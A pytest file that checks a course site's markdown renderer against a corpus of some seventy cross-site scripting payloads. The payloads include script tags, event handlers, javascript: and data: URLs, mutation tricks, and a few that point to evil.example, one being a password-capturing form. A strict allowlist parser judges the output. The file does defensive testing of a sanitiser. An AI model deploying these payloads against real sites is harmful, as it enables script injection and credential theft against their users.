"""What authors write is shown to learners: no text of theirs may run there."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from subgraphs.courses.markdown import plain, render

CORPUS = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" ONERROR="alert(1)">
<img/src=x/onerror=alert(1)>
<img src=`x` onerror=alert(1)>
<img src="x`><script>alert(1)</script>"`>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=f()&gt;">
<math href="javascript:alert(1)">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
<template><img src=x onerror=alert(1)></template>
<style>@import 'javascript:alert(1)';</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<p style="background:url(javascript:alert(1))">x</p>
<p style="position:fixed;inset:0">x</p>
<div class="fixed inset-0">x</div>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel=stylesheet href="javascript:alert(1)">
<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="\tjavascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="blob:https://example.com/1">x</a>
<a href="//evil.example" onclick="alert(1)" target="_blank" rel="opener">x</a>
<a id="location" name="cookie">x</a>
<details open ontoggle=alert(1)>x</details>
<video><source onerror="alert(1)"></video>
<audio src=x onerror=alert(1)></audio>
<body onload=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<x onfocus=alert(1) tabindex=1 autofocus>x</x>
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><script>alert(1)</script>
</p></div></body><script>alert(1)</script>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](<javascript:alert(1)>)
[x](javascript&colon;alert(1))
[x](java\\script:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
[x](https://example.com "onclick=alert(1) x")
[x](https://example.com/"onmouseover="alert(1))
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![x" onerror="alert(1)](x)
![x](x "onerror=alert(1)")
<javascript:alert(1)>
[x]: javascript:alert(1)
```"><script>alert(1)</script>
```js" onmouseover="alert(1)
| <img src=x onerror=alert(1)> |
{{constructor.constructor('alert(1)')()}}
""".strip().splitlines()

TAGS = {
    "a", "blockquote", "br", "code", "del", "em", "h2", "h3", "h4", "h5", "h6", "hr", "img", "kbd",
    "li", "ol",
    "p", "pre", "s", "strong", "sub", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
SPACES = re.compile(r"[\x00-\x20]")
"""Browsers look past these."""

ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title", "width", "height", "loading"},
    "code": {"class"},
    "ol": {"start"},
    "td": {"align"},
    "th": {"align"},
}


class Judge(HTMLParser):
    """Reads HTML as strictly as a browser is lenient: anything not listed is a fault."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()):
                self.faults.append(f"<{tag} {name}>")
            if name in ("href", "src"):
                scheme = SCHEME.match(SPACES.sub("", value or ""))
                if scheme and scheme[1].lower() not in ("http", "https", "mailto"):
                    self.faults.append(f"{name}={value}")

    def handle_comment(self, data: str) -> None:
        self.faults.append("<!-- -->")

    def handle_decl(self, decl: str) -> None:
        self.faults.append("<!…>")

    def unknown_decl(self, data: str) -> None:
        self.faults.append("<![…]>")

    def handle_pi(self, data: str) -> None:
        self.faults.append("<?…>")


def faults(html: str) -> list[str]:
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge.faults


@pytest.mark.parametrize("attack", CORPUS)
def test_nothing_of_the_corpus_survives(attack: str) -> None:
    html = render(attack)
    assert faults(html) == []
    assert render(f"> - {attack}\n\ntext") is not None
    assert faults(render(f"> - {attack}\n\ntext")) == []


def test_nothing_of_the_corpus_survives_together() -> None:
    assert faults(render("\n".join(CORPUS))) == []
    assert faults(render("\n\n".join(reversed(CORPUS)))) == []


@given(st.lists(st.sampled_from([*CORPUS, "`", "*", "[", "](", "<", ">", "\n\n", "    "])))
def test_no_mixture_survives(parts: list[str]) -> None:
    assert faults(render("".join(parts))) == []


def test_the_judge_would_have_seen_them() -> None:
    assert faults('<img src="x" onerror="alert(1)">') == ["<img onerror>"]
    assert faults('<a href="javascript:alert(1)">') == ["href=javascript:alert(1)"]
    assert faults("<script>") == ["<script>"]


def test_lessons_keep_what_they_need() -> None:
    html = render(
        "# Title\n\n| a | b |\n|:--|--:|\n| 1 | ~~2~~ |\n\n```js\nif (1 < 2) {}\n```\n\n"
        "Press <kbd>K</kbd>, see [there](https://example.com/x).\n\n![A knot](knot.png)\n"
    )
    assert html == (
        "<h2>Title</h2>\n<table>\n<thead>\n<tr>\n"
        '<th align="left">a</th>\n<th align="right">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n'
        '<td align="left">1</td>\n<td align="right"><s>2</s></td>\n</tr>\n</tbody>\n</table>\n'
        '<pre><code class="language-js">if (1 &lt; 2) {}\n</code></pre>\n'
        '<p>Press <kbd>K</kbd>, see <a href="https://example.com/x" '
        'rel="nofollow noopener">there</a>.</p>\n'
        '<p><img src="knot.png" alt="A knot" loading="lazy"></p>\n'
    )


def test_a_class_names_a_language_and_nothing_else() -> None:
    assert render("```c++\nx\n```") == '<pre><code class="language-c++">x\n</code></pre>\n'
    assert render("```a&quot;b\nx\n```") == "<pre><code>x\n</code></pre>\n"
    assert render('<code class="hidden">x</code>') == "<p><code>x</code></p>\n"


def test_plain_text_has_no_markup() -> None:
    assert plain("<p>a &lt; b &amp; <em>c</em></p>") == "a < b & c"
